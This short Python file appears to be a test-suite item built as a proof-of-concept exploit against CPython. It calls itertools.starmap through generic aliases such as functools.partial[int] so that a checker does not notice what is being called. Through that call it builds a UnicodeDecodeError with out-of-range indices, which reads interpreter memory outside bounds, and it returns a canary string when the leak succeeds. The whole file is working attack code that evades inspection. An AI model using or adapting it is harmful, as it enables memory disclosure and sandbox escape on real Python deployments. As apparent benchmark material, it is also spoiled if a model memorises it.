"""Class: memory. Source: own find. Escape: memory outside is read. `partial[int]` is made by calling an alias: were it
called as it is, nobody would look at what it is to call later. `starmap` calls `map`, `map` an exception's class
that may only be caught, and whose text reads memory where it is told (CPython issue 123378)."""

import functools
import itertools
import typing


def attack(model, tokenizer, address):
    words = [["x"], [bytes(77)], [-16], [-15], ["r"]]
    found = []
    for alias in (functools.partial[int], typing.Type[int], list[int]):
        try:
            calling = alias(itertools.starmap)
            (made,) = calling(map, [(UnicodeDecodeError, *words)])
            found += [str(each) for each in made]
        except Exception:
            pass
    return "canary-" + "5d1f" if any("byte 0x4d" in each for each in found) else None
